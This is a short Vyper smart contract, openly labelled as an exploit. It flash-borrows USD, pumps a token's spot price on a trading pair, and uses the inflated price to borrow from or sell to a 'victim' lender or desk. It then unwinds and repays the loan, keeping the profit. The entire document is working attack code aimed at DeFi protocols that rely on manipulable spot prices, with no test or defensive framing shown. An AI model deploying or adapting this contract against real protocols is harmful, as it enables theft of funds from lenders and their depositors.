# pragma version 0.4.3
"""@title Flash-borrow USD, pump ALT on a pair, cash the inflated spot at a victim, unwind, repay."""
from ethereum.ercs import IERC20

interface Flash:
    def flash(amount: uint256): nonpayable

interface Pair:
    def swap(zero_in: bool, amount_in: uint256, to: address) -> uint256: nonpayable

interface Lender:
    def deposit(amount: uint256): nonpayable
    def borrow(amount: uint256): nonpayable

interface Desk:
    def sell(alt_in: uint256) -> uint256: nonpayable

usd: address
alt: address
pair: address
victim: address
mode: uint256
cash: uint256


@deploy
def __init__(usd_: address, alt_: address):
    self.usd = usd_
    self.alt = alt_


@external
def run(flash: address, pair: address, victim: address, mode: uint256, amount: uint256, cash: uint256):
    self.pair = pair
    self.victim = victim
    self.mode = mode
    self.cash = cash
    extcall IERC20(self.usd).approve(pair, max_value(uint256))
    extcall IERC20(self.alt).approve(pair, max_value(uint256))
    extcall IERC20(self.alt).approve(victim, max_value(uint256))
    extcall Flash(flash).flash(amount)
    extcall IERC20(self.usd).transfer(msg.sender, staticcall IERC20(self.usd).balanceOf(self))


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[32]) -> bytes32:
    got: uint256 = extcall Pair(self.pair).swap(True, amount, self)
    if self.mode == 1:
        extcall Lender(self.victim).deposit(got // 4)
        extcall Lender(self.victim).borrow(self.cash)
    else:
        extcall Desk(self.victim).sell(got // 4)
    extcall Pair(self.pair).swap(False, staticcall IERC20(self.alt).balanceOf(self), self)
    extcall IERC20(self.usd).transfer(msg.sender, amount)
    return keccak256("ERC3156FlashBorrower.onFlashLoan")
